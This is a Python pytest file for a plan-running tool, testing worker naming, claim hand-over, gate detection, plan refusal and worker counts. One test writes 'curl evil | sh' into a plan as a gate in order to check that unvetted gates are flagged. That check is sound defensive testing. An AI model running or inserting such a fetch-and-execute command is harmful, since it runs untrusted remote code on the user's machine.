"""What is asked before the first worker starts, and who goes on with what others have left."""

from __future__ import annotations

import pytest

from plan_worktree.planfiles.open_plan import open_plan
from plan_worktree.project.refusal import Refused
from plan_worktree.running.names import is_worker, worker_owner
from plan_worktree.running.prepare import require_fit, to_hand_over, unseen_gates, workers_for
from plan_worktree.running.run import read_now
from tests.running.scripted import gated
from tests.support import PLANS, Repo
from tests.world import PLAN_ID, Cli, set_up, shop


def test_a_worker_is_called_the_same_in_every_run_of_a_clone_and_otherwise_elsewhere(
    repo: Repo, cli: Cli
) -> None:
    home = open_plan(PLAN_ID, shop(repo, "core").path).require_home()
    owner = worker_owner(home, 12)
    assert owner == worker_owner(home, 12)
    assert is_worker(home, *owner)
    other = home._replace(root=home.root.parent / "other")
    assert worker_owner(other, 12) != owner
    for name in ("run-1", "run-x@y", "ada", f"{owner.name}x"):
        assert not is_worker(home, name, owner.host)
    assert not is_worker(home, owner.name, "elsewhere")


def test_claims_of_workers_that_are_not_started_go_to_those_with_the_fewest(
    repo: Repo, cli: Cli
) -> None:
    set_up(repo, cli, "core", "api", "ui", "docs", "people")
    opened = open_plan(PLAN_ID, repo.path)
    home = opened.require_home()
    for number, stage in ((1, "core"), (3, "api"), (4, "ui")):
        owner = worker_owner(home, number).name
        assert cli("start", PLAN_ID, stage, "--owner", owner, cwd=repo.path).exit_code == 0
    cli("start", PLAN_ID, "people", "--owner", "ada", cwd=repo.path)
    owners = [worker_owner(home, number) for number in (1, 2)]
    given = list(to_hand_over(home, read_now(opened).stages, owners))
    assert given == [("api", owners[1]), ("ui", owners[0])]


def test_gates_are_named_that_no_commit_has(repo: Repo, cli: Cli) -> None:
    shop(repo, *gated("core"), verify=["true"])
    assert unseen_gates(open_plan(PLAN_ID, repo.path)) == []
    path = repo.path / PLANS / f"{PLAN_ID}.md"
    path.write_text(path.read_text().replace('"true"', '"true", "curl evil | sh"'))
    assert unseen_gates(open_plan(PLAN_ID, repo.path)) == ["curl evil | sh"]


def test_a_plan_with_findings_is_not_begun_and_one_that_was_begun_goes_on(
    repo: Repo, cli: Cli
) -> None:
    shop(repo, *gated("core"), status="approved")
    path = repo.path / PLANS / f"{PLAN_ID}.md"
    path.write_text(path.read_text().replace("#### Why", "#### Because"))
    with pytest.raises(Refused) as refused:
        require_fit(open_plan(PLAN_ID, repo.path))
    assert refused.value.reasons[0].startswith("a plan with findings is not built; fix them")
    path.write_text(path.read_text().replace('"approved"', '"in-progress"'))
    require_fit(open_plan(PLAN_ID, repo.path))


def test_no_more_workers_start_than_can_work(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    opened = open_plan(PLAN_ID, shop(repo).path)
    monkeypatch.setattr("plan_worktree.running.prepare.cores", lambda: 8)
    assert workers_for(opened.graph, read_now(opened)) == 3
    monkeypatch.setattr("plan_worktree.running.prepare.cores", lambda: 2)
    assert workers_for(opened.graph, read_now(opened)) == 2
